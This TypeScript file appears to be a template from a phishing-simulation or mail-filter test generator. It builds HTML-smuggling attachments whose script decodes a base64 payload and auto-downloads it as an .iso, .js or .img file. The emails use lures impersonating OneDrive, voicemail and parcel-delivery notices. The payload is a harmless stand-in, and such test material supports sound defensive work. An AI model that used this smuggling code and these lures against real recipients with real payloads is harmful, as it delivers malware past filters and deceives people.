/**
 * HTML smuggling: an attached page whose script decodes a payload, wraps it in a Blob and makes the
 * browser "download" it, so the file is assembled behind the mail filter. The payload here is a few
 * bytes of text named like an installer, base64-encoded.
 */
import type { Template } from '../lib/types.ts';

function smugglingPage(title: string, fileName: string, payload: string): string {
  const encoded = Buffer.from(payload, 'utf8').toString('base64');
  return `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>${title}</title></head>
<body style="font-family:Segoe UI,Arial">
<p>${title}: preparing your download…</p>
<script>
  var data = atob("${encoded}");
  var bytes = new Uint8Array(data.length);
  for (var i = 0; i < data.length; i++) { bytes[i] = data.charCodeAt(i); }
  var blob = new Blob([bytes], { type: "application/octet-stream" });
  var link = document.createElement("a");
  link.href = window.URL.createObjectURL(blob);
  link.download = "${fileName}";
  document.body.appendChild(link);
  link.click();
</script>
</body></html>
`;
}

const LURES = [
  { sender: 'OneDrive', domain: 'onedrive-sharing-files.example', title: 'Shared document', file: 'Q3_Financials.iso' },
  { sender: 'Voicemail Service', domain: 'voicemail-notify.example', title: 'New voice message', file: 'VoiceMessage_0412.js' },
  { sender: 'Shipping Notification', domain: 'parcel-tracking-center.example', title: 'Delivery label', file: 'DeliveryLabel.img' },
] as const;

export const htmlSmuggling: Template = {
  name: 'html-smuggling',
  kind: 'smuggling',
  count: 5,
  roles: ['executive', 'billing', 'helpdesk'],
  build({ random, index, recipientName }) {
    const lure = LURES[index % LURES.length]!;
    const payload = `demo payload ${random.token(24)} (a harmless stand-in for ${lure.file})`;
    return {
      from: { name: lure.sender, address: `no-reply@${lure.domain}` },
      subject: `${lure.title} for ${recipientName}`,
      text: `${recipientName}, you have a new ${lure.title.toLowerCase()}. Open the attached page to view it.\n`,
      attachments: [{ filename: `${lure.title.replace(/\s+/g, '_')}_${random.between(1000, 9999)}.html`, content: Buffer.from(smugglingPage(lure.title, lure.file, payload)), contentType: 'text/html' }],
    };
  },
};
